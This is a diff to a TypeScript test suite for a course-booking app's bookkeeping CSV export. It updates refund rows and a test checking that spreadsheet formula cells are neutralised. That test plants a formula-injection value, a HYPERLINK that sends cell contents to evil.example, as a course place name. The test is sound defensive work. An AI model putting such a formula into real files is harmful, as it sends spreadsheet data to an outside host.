@@ -284,12 +284,12 @@ describe('bookkeeping', () => {
     await kit.t.http('POST', `/api/payments/${order.id}/refund`, { token: kit.adminToken, body: { amount: 10_000, removeFromCourse: false, idempotencyKey: randomUUID() } });
     const today = osloDateKey(new Date());
     const file = await bookkeeping(kit.t.ctx, { from: today, to: today });
-    const rows = file.rows.filter((r) => r.orderId === order.id).map((r) => [r.kind, r.course]);
-    expect(rows).toEqual([['capture', from.name], ['refund', 'c52 Flyttet hit']]);
+    const rows = file.rows.filter((r) => r.orderId === order.id).map((r) => [r.kind, r.courseId]);
+    expect(rows).toEqual([['capture', from.id], ['refund', to.id]]);
   });
 
   it('L4: the CSV neutralises text cells that start with = + - @ tab or CR; negative amounts stay numbers', async () => {
-    const evil = await createCourse(kit.t.db, { priceOre: PRICE, maximumParticipants: 6, dates: DATES, ageMinMonths: null, ageMaxMonths: null, name: '=HYPERLINK("http://evil.example/?x="&A2,"Klikk")' });
+    const evil = await createCourse(kit.t.db, { priceOre: PRICE, maximumParticipants: 6, dates: DATES, ageMinMonths: null, ageMaxMonths: null, place: await createPlace(kit.t.db, { name: '=HYPERLINK("http://evil.example/?x="&A2,"Klikk")' }) });
     const { order } = await payForCourse(kit.t, evil);
     await kit.t.http('POST', `/api/payments/${order.id}/refund`, { token: kit.adminToken, body: { amount: 10_000, removeFromCourse: false, idempotencyKey: randomUUID() } });
     const today = osloDateKey(new Date());
@@ -299,7 +299,7 @@ describe('bookkeeping', () => {
     for (const line of lines) expect(line).toContain(`"'=HYPERLINK(`);
     expect(csv).not.toMatch(/;"?=HYPERLINK/);
     expect(lines.find((l) => l.includes('Refusjon'))).toMatch(/;-100;/);
-    const perCourse = csv.split(/\r?\n/).find((l) => l.startsWith(`"'=HYPERLINK`));
+    const perCourse = csv.split(/\r?\n/).find((l) => l.includes(`"'=HYPERLINK`) && !l.includes(order.humanReference));
     expect(perCourse).toBeDefined();
     expect((await kit.t.db.select().from(orderEvents).where(eq(orderEvents.orderId, order.id))).length).toBeGreaterThan(1);
   });
